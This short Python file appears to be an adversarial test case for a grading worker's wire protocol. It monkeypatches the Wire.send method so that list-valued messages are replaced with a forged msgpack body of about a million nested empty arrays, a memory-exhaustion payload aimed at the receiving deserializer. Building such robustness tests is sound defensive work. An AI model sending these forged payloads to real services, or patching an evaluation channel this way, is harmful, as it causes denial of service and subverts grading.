"""A million empty lists in a megabyte: small on the wire, large in memory.

loses: generator, dual_variable
says: not a message | more than
"""
# %% + imports
import gradeworker.wire as wire

send = wire.Wire.send


def send_forged(self, message, timeout=None):
    if not isinstance(message.get("value"), list):
        return send(self, message, timeout)
    body = b"\xdd" + struct.pack(">I", 150_000) + b"\x9a" + b"\x90" * 10 + b"\x9a\x90\x90" * 10**6
    self.sock.sendall(struct.pack(">I", len(body)) + body)


wire.Wire.send = send_forged
